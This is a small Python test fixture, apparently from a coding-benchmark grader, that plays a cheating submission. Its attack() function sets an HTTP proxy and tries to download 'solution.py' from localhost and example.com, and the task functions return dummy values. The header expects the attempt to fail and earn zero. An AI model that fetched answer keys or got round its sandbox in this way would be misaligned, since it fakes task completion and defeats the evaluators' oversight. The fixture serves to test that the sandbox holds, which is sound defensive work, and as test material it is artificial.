# expect:
#   verdict: [wrong, raised]
#   earned: 0
# sentence: Fetches the solution with urllib and http.client, and by a proxy from the environment; there is no network.

import contextlib
import http.client
import os
import urllib.request

import numpy as np


def attack():
    os.environ["http_proxy"] = "http://127.0.0.1:@PORT@"
    for address in ("http://127.0.0.1:@PORT@/solution.py", "http://example.com/solution.py"):
        with contextlib.suppress(OSError, ValueError, http.client.HTTPException):
            print("GOT:", urllib.request.urlopen(address, timeout=1).read(100))


def pad2d(x, padding, value=0.0):
    attack()
    return np.zeros(1)


def output_size(size, kernel, stride=1, padding=0):
    return 0


def same_padding(kernel):
    return 0
